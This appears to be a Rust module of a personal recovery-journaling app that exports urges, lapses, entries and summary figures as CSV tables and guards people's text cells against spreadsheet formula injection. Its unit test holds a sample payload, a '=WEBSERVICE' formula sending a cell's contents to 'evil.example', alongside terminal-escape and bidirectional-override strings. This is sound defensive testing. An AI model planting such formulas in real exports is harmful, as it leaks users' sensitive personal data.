//! CSV tables (RFC 4180 via the `csv` crate, ISO 8601 times): urges, lapses, every
//! entry, one row per day, the summary figures and the open agenda points. One file per table when exporting to a directory;
//! the entries table alone for a single `.csv` file.

use super::report::Report;
use crate::model::entry::SurfSample;
use crate::model::{Entry, EntryBody};
use crate::sanitize::{self, Mode};
use std::io::Write;

/// The tables, by file name.
pub const TABLES: [&str; 6] = [
    "urges.csv",
    "lapses.csv",
    "entries.csv",
    "daily.csv",
    "summary.csv",
    "agenda.csv",
];

/// A cell of a person's text (or an imported one), safe for a spreadsheet: every
/// control, C1 and bidirectional character shown as a visible escape (line breaks
/// and tabs kept in [`Mode::Body`] text), and, by the OWASP rule, a `'` before a
/// cell that begins with `=`, `+`, `-`, `@`, a tab or a carriage return, so that no
/// spreadsheet takes it for a formula (`=WEBSERVICE(...)` could send data out).
/// Only cells of people's text get the prefix: the numbers confide writes itself
/// (intensity, minutes, mood, the summary figures) stay numbers.
pub fn text_cell(s: &str, mode: Mode) -> String {
    let s = sanitize::sanitize(s, mode);
    if s.starts_with(['=', '+', '-', '@', '\t', '\r']) {
        format!("'{s}")
    } else {
        s.into_owned()
    }
}

/// Names (tags, triggers, coping, feelings) as one cell: each sanitised as a field,
/// joined with `; `, guarded like [`text_cell`].
fn names_cell(names: &[String]) -> String {
    text_cell(&sanitize::fields(names, "; "), Mode::Field)
}

fn late(e: &Entry) -> &'static str {
    if Report::late(e) { "yes" } else { "no" }
}

/// Writes one table.
pub fn write_table<W: Write>(out: W, r: &Report, table: &str) -> csv::Result<()> {
    let mut w = csv::Writer::from_writer(out);
    match table {
        "urges.csv" => {
            w.write_record([
                "id",
                "occurred_at",
                "recorded_later",
                "intensity",
                "triggers",
                "halt",
                "coping",
                "outcome",
                "minutes",
                "note",
                "curve",
            ])?;
            for e in &r.entries {
                if let EntryBody::Urge(u) = &e.body {
                    let note = if r.text_allowed(e) {
                        text_cell(u.note.as_deref().unwrap_or_default(), Mode::Body)
                    } else {
                        String::new()
                    };
                    w.write_record([
                        e.id.to_hex(),
                        e.occurred_at.to_rfc3339(),
                        late(e).into(),
                        u.intensity.to_string(),
                        names_cell(&u.triggers),
                        u.halt.names().join("; "),
                        names_cell(&u.coping),
                        u.outcome
                            .map(|o| o.as_str().to_string())
                            .unwrap_or_default(),
                        u.minutes.map(|m| m.to_string()).unwrap_or_default(),
                        note,
                        SurfSample::curve_text(&u.curve),
                    ])?;
                }
            }
        }
        "lapses.csv" => {
            // One row per lapse episode (the count the summary gives); the ids of all
            // its entries in `entries`, its lapses' notes and chain answers joined.
            w.write_record([
                "occurred_at",
                "recorded_later",
                "entries",
                "urge_intensity",
                "triggers",
                "note",
                "vulnerability",
                "prompting_event",
                "thoughts_feelings",
                "consequences",
                "next_time",
            ])?;
            for ep in &r.lapse_episodes {
                let first = ep.entries[0];
                let mut texts: [Vec<String>; 6] = Default::default();
                for (e, l) in ep.lapses() {
                    // The note needs --include-text; the chain analysis leaves by
                    // default (written for therapy).
                    if r.text_allowed(e) {
                        texts[0].extend(l.note.clone());
                    }
                    if !r.chain_text_allowed(e) {
                        continue;
                    }
                    let Some(chain) = &l.chain else { continue };
                    for (slot, (_, _, v)) in texts[1..].iter_mut().zip(chain.fields()) {
                        slot.extend(v.clone());
                    }
                }
                let mut row = vec![
                    ep.at.to_rfc3339(),
                    late(first).into(),
                    ep.entries
                        .iter()
                        .map(|e| e.id.to_hex())
                        .collect::<Vec<_>>()
                        .join("; "),
                    ep.urge()
                        .map(|(_, u)| u.intensity.to_string())
                        .unwrap_or_default(),
                    names_cell(&ep.triggers()),
                ];
                row.extend(texts.iter().map(|t| text_cell(&t.join("\n"), Mode::Body)));
                w.write_record(row)?;
            }
        }
        "agenda.csv" => {
            // The open agenda points, oldest first.
            w.write_record(["id", "written", "written_at", "text"])?;
            for (e, text) in super::report::agenda_points(r) {
                w.write_record([
                    e.id.to_hex(),
                    super::report::human_time(e.occurred_at),
                    e.occurred_at.to_rfc3339(),
                    text_cell(text, Mode::Body),
                ])?;
            }
        }
        "entries.csv" => {
            w.write_record([
                "id",
                "kind",
                "occurred_at",
                "recorded_at",
                "recorded_later",
                "tags",
                "private",
                "intimacy",
                "mood",
                "emotions",
                "summary",
                "text",
            ])?;
            for e in &r.entries {
                let (mood, emotions) = match &e.body {
                    EntryBody::Journal(j) => (j.mood, names_cell(&j.emotions)),
                    EntryBody::Checkin(c) => (c.mood, names_cell(&c.emotions)),
                    _ => (None, String::new()),
                };
                let text = if r.text_allowed(e) {
                    text_cell(&e.body.texts().join("\n\n"), Mode::Body)
                } else {
                    String::new()
                };
                let summary = match &e.body {
                    EntryBody::Journal(_) | EntryBody::Reflection(_) => String::new(),
                    _ if !r.text_allowed(e) => text_cell(&structured_summary(e), Mode::Field),
                    b => text_cell(&b.summary(), Mode::Field),
                };
                w.write_record([
                    e.id.to_hex(),
                    e.body.kind().into(),
                    e.occurred_at.to_rfc3339(),
                    e.recorded_at.to_rfc3339(),
                    late(e).into(),
                    names_cell(&e.tags),
                    e.private.to_string(),
                    e.intimacy
                        .map(|t| t.as_str().to_string())
                        .unwrap_or_default(),
                    mood.map(|m| m.to_string()).unwrap_or_default(),
                    emotions,
                    summary,
                    text,
                ])?;
            }
        }
        "daily.csv" => {
            // One row per calendar day of the range (the daily table of the HTML and
            // Markdown reports): numbers confide computes, no person's text; the
            // cells still go through the same rule as every other cell.
            w.write_record([
                "date",
                "mood",
                "urges",
                "mean_intensity",
                "resisted",
                "acted",
                "no_outcome",
                "lapse",
                "practice",
            ])?;
            for d in &r.daily {
                let row = [
                    d.date.to_string(),
                    d.mood.map(|m| m.to_string()).unwrap_or_default(),
                    d.urges.to_string(),
                    d.mean_intensity.map(|m| m.to_string()).unwrap_or_default(),
                    d.resisted.to_string(),
                    d.acted.to_string(),
                    d.no_outcome.to_string(),
                    if d.lapse { "yes" } else { "no" }.to_string(),
                    d.practices.to_string(),
                ];
                w.write_record(row.iter().map(|c| text_cell(c, Mode::Field)))?;
            }
        }
        _ => {
            let s = &r.summary;
            w.write_record(["figure", "value"])?;
            let rows: Vec<(&str, String)> = vec![
                ("range_since", s.range.since.to_rfc3339()),
                ("range_until", s.range.until.to_rfc3339()),
                ("current_streak_days", s.streak.current_days.to_string()),
                ("longest_streak_days", s.streak.longest_days.to_string()),
                ("lapses_in_range", s.streak.lapses_in_range.to_string()),
                (
                    "clean_days_in_range",
                    s.streak.clean_days_in_range.to_string(),
                ),
                ("days_in_range", s.streak.days_in_range.to_string()),
                (
                    "counted_days_in_range",
                    s.streak.counted_days_in_range.to_string(),
                ),
                ("days_since_start", s.streak.days_since_start.to_string()),
                (
                    "clean_days_since_start",
                    s.streak.clean_days_since_start.to_string(),
                ),
                ("phase", format!("{} {}", s.phase.number, s.phase.name)),
                ("phase_clean_days", s.phase.clean_days.to_string()),
                ("urges", s.urges.total.to_string()),
                ("urges_resisted", s.urges.resisted.to_string()),
                ("urges_acted", s.urges.acted.to_string()),
                ("urges_no_outcome", s.urges.no_outcome.to_string()),
                (
                    "mean_intensity",
                    s.urges
                        .mean_intensity
                        .map(|m| m.to_string())
                        .unwrap_or_default(),
                ),
                (
                    "mean_mood",
                    s.mood.mean.map(|m| m.to_string()).unwrap_or_default(),
                ),
                ("practices", s.practices.total.to_string()),
                (
                    "days_with_practice",
                    s.practices.days_with_practice.to_string(),
                ),
                ("days_with_entries", r.days_with_entries.to_string()),
                ("private_entries_held_back", r.held_back_private.to_string()),
                (
                    "private_entries_left_out_of_figures",
                    r.private_left_out.to_string(),
                ),
                (
                    "note",
                    super::report::private_sentence(r.private_left_out).unwrap_or_default(),
                ),
            ];
            for (k, v) in rows {
                w.write_record([k, v.as_str()])?;
            }
        }
    }
    w.flush()?;
    Ok(())
}

/// A one-line summary from structured fields only (no notes).
fn structured_summary(e: &Entry) -> String {
    match &e.body {
        EntryBody::Urge(u) => format!(
            "intensity {}{}",
            u.intensity,
            u.outcome
                .map(|o| format!(", {}", o.as_str()))
                .unwrap_or_default()
        ),
        EntryBody::Lapse(l) => format!(
            "lapse{}",
            if l.triggers.is_empty() {
                String::new()
            } else {
                format!(", triggers: {}", l.triggers.join(", "))
            }
        ),
        EntryBody::Practice(p) => p.practice_id.clone(),
        EntryBody::Checkin(c) => c
            .mood
            .map(|m| format!("mood {m}"))
            .unwrap_or_else(|| "check-in".into()),
        EntryBody::Agenda(a) if a.done_at.is_some() => "agenda point, done".into(),
        EntryBody::Agenda(_) => "agenda point".into(),
        EntryBody::Journal(_) | EntryBody::Reflection(_) => String::new(),
    }
}

#[cfg(test)]
mod tests {
    use super::{Mode, text_cell};

    #[test]
    fn formula_cells_get_a_quote_and_controls_show_as_escapes() {
        for (raw, cell) in [
            (
                "=WEBSERVICE(\"http://evil.example/?\"&A1)",
                "'=WEBSERVICE(\"http://evil.example/?\"&A1)",
            ),
            ("+1+1", "'+1+1"),
            ("-2+3", "'-2+3"),
            ("@SUM(A1)", "'@SUM(A1)"),
            ("\tx", "'\tx"),
            ("plain = fine", "plain = fine"),
            (
                "a\u{1b}[2Jb\u{9b}c\u{202e}d\u{7f}",
                "a\\e[2Jb\\u{9b}c\\u{202e}d\\u{7f}",
            ),
            ("one\ntwo", "one\ntwo"),
        ] {
            assert_eq!(text_cell(raw, Mode::Body), cell, "{raw:?}");
        }
        // A carriage return is escaped first, in either mode; a field's tab too.
        assert_eq!(text_cell("\r=1", Mode::Body), "\\r=1");
        assert_eq!(text_cell("\t=1", Mode::Field), "\\t=1");
        assert_eq!(text_cell("one\ntwo", Mode::Field), "one\\ntwo");
    }
}
